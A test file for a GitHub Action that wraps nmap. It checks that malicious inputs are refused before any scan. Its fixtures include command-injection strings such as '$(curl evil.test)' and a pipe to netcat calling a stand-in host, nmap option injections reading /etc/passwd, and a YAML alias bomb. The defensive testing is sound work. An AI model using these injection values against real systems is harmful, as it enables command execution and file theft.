// Every bad input refused clearly, through the built action as a runner runs it: exit 1 before any
// scan, one `::error::` naming the input and what to do, no stack trace, nothing in report-dir, and
// nmap never started. A fake nmap is alone on PATH and writes down every start: its log must stay
// empty. The same rows run through the CLI (dist/cli), which exits 2 with `error: Input '...'`.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { runAction } from '../helpers/action.js';
import { runCommand } from '../helpers/exec.js';
import { fakeNmap, type FakeNmap } from '../helpers/fake-nmap.js';
import { repoRoot } from '../helpers/paths.js';
import { actionNode } from '../helpers/runtime.js';

interface Row {
  what: string;
  inputs: Record<string, string>;
  /** The input the error must name. */
  input: string;
  /** What the one error line says after `Input '<input>': `. */
  says: RegExp;
}

const T = '203.0.113.5';

/** Policy files and XML files the rows name, written into the work folder by name. */
const FILES: Record<string, string> = {
  'not-yaml.yml': 'targets: [203.0.113.5\nrules: {',
  'unknown-key.yml': 'targets: [203.0.113.5]\nrules:\n  "*": [22]\nscript: http-title\n',
  'option-target.yml': 'targets:\n  - 203.0.113.5\n  - -iL /etc/passwd\nrules:\n  "*": [22]\n',
  'shell-target.yml': 'targets: ["$(curl evil.test)"]\nrules:\n  "*": [22]\n',
  'bad-port.yml': 'targets: [203.0.113.5]\nrules:\n  203.0.113.5: [22, 99999]\n',
  'bad-rule.yml': 'targets: [203.0.113.5]\nrules:\n  203.0.113.5: "22 or 80"\n',
  // Aliases are never expanded: a billion-laughs file is refused at its first alias.
  'alias-bomb.yml': [
    'groups:',
    '  a: &a [203.0.113.5, 203.0.113.6, 203.0.113.7, 203.0.113.8, 203.0.113.9]',
    '  b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]',
    '  c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]',
    '  d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]',
    'targets: *d',
    'rules:',
    '  "*": [22]',
  ].join('\n'),
  'empty.yml': '# nothing but a comment\n',
  'binary.yml': '\u0000\u00ff\u00fegarbage\u0001',
  'not-nmap.xml': '<html><body>hello</body></html>',
  'broken.xml': '<?xml version="1.0"?><nmaprun><host><status></host></nmaprun>',
};

const file = (work: string, name: string): string => join(work, 'files', name);

function rows(work: string): Row[] {
  const f = (name: string): string => file(work, name);
  return [
    // Option-like targets: never an nmap option.
    ...['-iL /etc/passwd', '--script=http-title', '-oN x', '-sV', '--resume=/tmp/x'].map((t) => ({
      what: `an option-like target: ${t}`,
      inputs: { targets: `${T}\n${t}` },
      input: 'targets',
      says: /starts with '-': targets are never nmap options/,
    })),
    // Shell metacharacters and command substitution.
    ...[`${T};id`, '$(id)', '`id`', 'a.example|nc evil.test 1', 'a.example&&id', '${HOME}'].map(
      (t) => ({
        what: `a shell string as target: ${t}`,
        inputs: { targets: t },
        input: 'targets',
        says: /holds characters no hostname, IP or CIDR has/,
      }),
    ),
    {
      what: 'an oversize IPv4 block',
      inputs: { targets: '10.0.0.0/8' },
      input: 'targets',
      says: /'10\.0\.0\.0\/8' holds 16,777,216 addresses, more than max-addresses \(4096\)\. Split it/,
    },
    {
      what: 'an oversize IPv6 block',
      inputs: { targets: '2001:db8::/64' },
      input: 'targets',
      says: /'2001:db8::\/64' holds 1\.84e\+19 addresses, more than max-addresses/,
    },
    {
      what: 'blocks that together exceed max-addresses',
      inputs: { targets: '203.0.113.0/28, 203.0.113.16/28', 'max-addresses': '20' },
      input: 'targets',
      says: /name 32 addresses, more than max-addresses \(20\)/,
    },
    ...[
      ['ex_ample..com', /is not a hostname, an IPv4 or IPv6 address, or a CIDR block/],
      ['999.1.1.1', /is not a hostname, an IPv4 or IPv6 address, or a CIDR block/],
      [`${'a'.repeat(64)}.example`, /is not a hostname/],
      ['exämple.com', /is not a hostname/],
      ['fe80::1%eth0', /holds characters|is not a hostname/],
      ['203.0.113.0/33', /has a prefix length outside 0-32/],
      ['web.example/24', /is not a CIDR block: 'web\.example' is not an IP address/],
    ].map(([t, says]) => ({
      what: `a garbage target: ${String(t).slice(0, 30)}`,
      inputs: { targets: String(t) },
      input: 'targets',
      says: says as RegExp,
    })),
    {
      what: 'empty targets',
      inputs: { targets: ' , # only a comment' },
      input: 'targets',
      says: /is empty\. Give hostnames, IPs or CIDR blocks/,
    },
    // Ports.
    ...[
      ['ports', '0', /'0' is outside 1-65535/],
      ['ports', '65536', /'65536' is outside 1-65535/],
      ['ports', '100-1', /runs backwards \(write the lower port first\)/],
      ['ports', '22,--script=x', /is not a port or a range/],
      ['ports', '-p-', /is not a port or a range/],
      ['ports', 'top-0', /must be top-N with N from 1 to 65535/],
      ['udp-ports', '53,T:80', /'t:80' is not a port or a range/],
    ].map(([input, value, says]) => ({
      what: `bad ${String(input)}: ${String(value)}`,
      inputs: { targets: T, [String(input)]: String(value) },
      input: String(input),
      says: says as RegExp,
    })),
    // Rules.
    ...[
      ['nonsense', /line 1 \('nonsense'\) is not 'PATTERN: PORTS'/],
      [`${T}: 0`, /'0' is outside 1-65535/],
      [`${T}: 22, 70000`, /'70000' is outside 1-65535/],
      ['*: 22/sctp', /'22\/sctp' is not N, N-M, N\/udp or N\?/],
      [`${T}: 22, -p-`, /'-p-' is not N, N-M/],
      [`${T}: none, 22`, /'none' is not N, N-M.*nor 'none', which stands alone/],
      ['-iL /etc/passwd: 22', /starts with '-'/],
      ['$(id): 22', /holds characters no hostname, IP or CIDR has/],
      ['typo.example: 22', /'typo\.example' names no entry of targets/],
    ].map(([value, says]) => ({
      what: `a bad rule: ${String(value)}`,
      inputs: { targets: T, expected: String(value) },
      input: 'expected',
      says: says as RegExp,
    })),
    // Kinds, booleans, durations, numbers and choices.
    ...[
      ['fail-on', 'everything', /'everything' is not a drift kind\. Use any of/],
      ['fail-on', 'none, missing', /'none' is not a drift kind/],
      ['issue', 'yes', /'yes' is not a boolean\. Use true or false\./],
      ['install-nmap', '1', /'1' is not a boolean/],
      ['pr-comment', 'on', /'on' is not a boolean/],
      ['scan-timeout', 'forever', /is not a duration\. Write a number with a unit/],
      ['scan-timeout', '0s', /'0s' is under one second/],
      ['scan-timeout', '1000h', /'1000h' is longer than 5 days/],
      ['max-addresses', '1e3', /'1e3' is not a positive whole number/],
      ['max-addresses', '-1', /'-1' is not a positive whole number/],
      ['ip-version', '5', /'5' is not one of: both, 4, 6/],
      ['scan-type', '-sS', /'-sS' is not one of: auto, syn, connect/],
      ['mode', '--x', /'--x' is not one of: check, record, merge/],
      ['notify', 'sometimes', /'sometimes' is not one of: change, always/],
      ['shard', '3/2', /'3\/2' is not i\/n with 1 <= i <= n <= 256/],
      ['slack-webhook-url', 'http://hooks.example/x', /must be an https:\/\/ URL/],
      ['issue-labels', ' , ', /is empty\. The issue is found again by its labels/],
    ].map(([input, value, says]) => ({
      what: `bad ${String(input)}: ${String(value)}`,
      inputs: { targets: T, [String(input)]: String(value) },
      input: String(input),
      says: says as RegExp,
    })),
    // Policy files.
    ...[
      ['not-yaml.yml', /not-yaml\.yml:2: not valid YAML/],
      ['unknown-key.yml', /unknown-key\.yml:4, key 'script': unknown key/],
      [
        'option-target.yml',
        /option-target\.yml:3, key 'targets': '-iL \/etc\/passwd' starts with '-'/,
      ],
      ['shell-target.yml', /shell-target\.yml:1, key 'targets': .* holds characters/],
      ['bad-port.yml', /bad-port\.yml:3, key 'rules\.203\.0\.113\.5': '99999' is outside 1-65535/],
      ['bad-rule.yml', /bad-rule\.yml:3, key 'rules\.203\.0\.113\.5': '22 or 80' is not N/],
      [
        'alias-bomb.yml',
        /alias-bomb\.yml:6, key 'targets': expected a string or a list of strings/,
      ],
      ['empty.yml', /empty\.yml: the file is empty/],
      ['binary.yml', /binary\.yml:1: expected a mapping with targets, groups and rules/],
      [
        'missing.yml',
        /cannot read .*missing\.yml \(ENOENT\)\. Give a path relative to the repository root/,
      ],
    ].map(([name, says]) => ({
      what: `a bad policy file: ${String(name)}`,
      inputs: { policy: f(String(name)) },
      input: 'policy',
      says: says as RegExp,
    })),
    {
      what: 'a policy path that is a folder',
      inputs: { policy: join(work, 'files') },
      input: 'policy',
      says: /files is a folder, not a file: name the file itself/,
    },
    // nmap XML files to read.
    ...[
      [f('nothing-*.xml'), /matches no file\. Check the path or glob/],
      [f('not-nmap.xml'), /not-nmap\.xml is not nmap XML: it has no <nmaprun> element/],
      [f('broken.xml'), /broken\.xml is not well-formed XML/],
      // Listed, but cannot be read: the read fails with EIO.
      ['/proc/self/mem', /cannot read \/proc\/self\/mem: EIO/],
    ].map(([xml, says]) => ({
      what: `an unreadable or bad xml: ${String(xml).split('/').pop()}`,
      inputs: { xml: String(xml), expected: '*: none' },
      input: 'xml',
      says: says as RegExp,
    })),
  ];
}

describe('hostile inputs, refused before any scan', () => {
  const work = mkdtempSync(join(tmpdir(), 'port-drift-hostile-inputs-'));
  let nmap: FakeNmap;
  before(() => {
    mkdirSync(join(work, 'files'));
    for (const [name, text] of Object.entries(FILES)) writeFileSync(file(work, name), text);
    // Even `nmap --version` fails: any start at all is written down.
    nmap = fakeNmap('exit 1', false);
  });
  after(() => {
    nmap.remove();
    rmSync(work, { recursive: true, force: true });
  });

  for (const row of rows(work)) {
    it(`refuses ${row.what}`, async () => {
      const run = await runAction(row.inputs, runCommand, { ...nmap.env, GITHUB_WORKSPACE: work });
      const log = run.stdout + run.stderr;
      assert.equal(run.code, 1, log);
      const errors = run.stdout.split('\n').filter((l) => l.startsWith('::error::'));
      assert.equal(errors.length, 1, log);
      const prefix = `::error::Input '${row.input}': `;
      assert.ok(errors[0]?.startsWith(prefix), `${errors[0]} does not start with ${prefix}`);
      assert.match(errors[0]?.slice(prefix.length) ?? '', row.says);
      assert.doesNotMatch(log, /\n\s+at /, 'no stack trace');
      assert.deepEqual(run.files, [], 'nothing is written to report-dir');
      assert.deepEqual(nmap.calls(), [], 'nmap was never started');
    });
  }

  it('refuses the same inputs through the CLI, with exit code 2 and no nmap start', async () => {
    const cli = join(repoRoot, 'dist/cli/index.js');
    for (const row of rows(work).filter((_, i) => i % 4 === 0)) {
      const args = Object.entries(row.inputs).flatMap(([k, v]) => [`--${k}=${v}`]);
      const result = await runCommand([actionNode, cli, ...args], {
        // XDG_STATE_HOME: the CLI's default report-dir stays in this test's folder.
        env: {
          ...nmap.env,
          GITHUB_ACTIONS: undefined,
          GITHUB_OUTPUT: undefined,
          XDG_STATE_HOME: work,
        },
        cwd: work,
      });
      assert.equal(result.code, 2, `${row.what}: ${result.stdout}${result.stderr}`);
      assert.match(result.stderr, new RegExp(`^error: Input '${row.input}': `, 'm'), row.what);
      assert.doesNotMatch(result.stdout + result.stderr, /\n\s+at /);
    }
    assert.deepEqual(nmap.calls(), []);
  });
});
